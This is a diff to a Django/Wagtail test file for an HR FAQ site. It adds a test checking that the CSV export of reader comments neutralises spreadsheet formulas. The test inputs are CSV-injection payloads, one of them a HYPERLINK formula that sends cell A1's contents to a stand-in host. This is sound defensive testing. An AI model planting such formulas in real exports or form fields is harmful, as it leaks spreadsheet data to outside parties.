@@ -1,9 +1,12 @@
 """Relecture juridique : workflow Wagtail, rapport des articles à relire, avis dans l'admin."""
 
+import csv
+import io
 from datetime import date
 
 import pytest
 from django.contrib.auth.models import Group
+from django.test import Client
 from wagtail.models import Workflow
 
 from rh_tpe import droit
@@ -120,6 +123,23 @@ def test_les_avis_sont_visibles_des_editeurs_par_article(client, theme, editeur)
     assert "Pas clair sur le délai." in reponse.content.decode()
     client.force_login(ChefEntrepriseFactory())
     assert client.get("/admin/avis_faq/").status_code == 302
+
+
+@pytest.mark.parametrize(
+    "formule", ['=HYPERLINK("http://x.invalid/?"&A1;"ici")', "+1+1", "@SUM(A1)"]
+)
+def test_l_export_csv_des_avis_ne_transporte_pas_de_formule(client, theme, editeur, formule):
+    article = creer_article(theme, titre="Faut-il une DPAE ?")
+    client.post(article.url, {"utile": "non", "commentaire": formule})
+    Client().post(article.url, {"utile": "oui", "commentaire": "Clair, merci."})  # autre lecteur
+
+    client.force_login(editeur)
+    reponse = client.get("/admin/avis_faq/", {"export": "csv"})
+
+    assert reponse.status_code == 200
+    lignes = list(csv.DictReader(io.StringIO(b"".join(reponse.streaming_content).decode())))
+    commentaires = {ligne["Commentaire"] for ligne in lignes}
+    assert commentaires == {f"'{formule}", "Clair, merci."}
 
 
 def test_l_editeur_previsualise_un_article_avant_publication(client, theme, editeur):
